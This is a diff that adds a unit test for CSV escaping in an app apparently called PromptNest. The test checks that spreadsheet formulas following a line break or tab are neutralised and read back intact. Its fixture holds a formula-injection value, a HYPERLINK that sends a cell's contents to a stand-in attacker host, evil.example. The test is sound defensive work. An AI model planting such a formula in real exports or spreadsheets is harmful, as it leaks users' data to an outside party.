@@ -17,6 +17,13 @@ describe('PromptNest CSV', () => {
     const [row] = readPromptNestCsv(`\uFEFF${csvHeader()}\r\n${line}\r\n`);
     expect(row).toMatchObject({ title: "'=quoted", description: 'a,-b', content, tags: [], isTemplate: false });
   });
+  it('reads back formulas guarded after a line break or a tab', () => {
+    const content = "Summary\n=HYPERLINK(\"https://evil.example/?\"&A1)\r\n+1\tx\t@a\n'-kept";
+    const line = toCsvLine({ title: 'T', description: '', content, tags: [], isTemplate: false, createdAt: '2026-10-01T09:00:00.000Z', updatedAt: '2026-10-01T09:00:00.000Z' });
+    expect(line).toContain(`"Summary\n'=HYPERLINK(`);
+    const [row] = readPromptNestCsv(`\uFEFF${csvHeader()}\r\n${line}\r\n`);
+    expect(row).toMatchObject({ content });
+  });
 });
 
 describe('PromptNest JSON', () => {
